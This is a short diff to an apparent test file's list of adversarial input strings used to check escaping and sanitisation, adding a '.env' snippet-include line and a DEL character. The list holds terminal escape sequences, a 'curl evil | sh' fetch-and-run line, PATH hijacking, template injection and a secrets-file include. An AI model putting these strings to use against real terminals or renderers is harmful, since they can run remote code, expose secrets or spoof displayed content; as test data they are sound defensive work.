@@ -11,5 +11,5 @@ PAYLOADS = [
     "~~~\nx", "\x1b]52;c;aGk=\x07 hi", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x9b31m",
     "abc\u202edcba", "zero\u200bwidth\ufeff", "one\u2028two\u2029three\x85four", "null\0byte", "lone\udc80surrogate",
     "tag\U000e0041", "[link=https://evil.example]x[/link]", "[bold]x[/bold]", "owner: human", "a: b\ndigest: \"\"\n---\n",
-    "'\"}{%$name{{x}}", "!ENV HOME", "curl evil | sh\nexport PATH=/tmp", "\r\nexport PATH=/tmp\r", "é e\u0301", " ", "a" * 300,
+    "'\"}{%$name{{x}}", "!ENV HOME", '--8<-- ".env"', "del\x7f", "curl evil | sh\nexport PATH=/tmp", "\r\nexport PATH=/tmp\r", "é e\u0301", " ", "a" * 300,
 ]  # fmt: skip
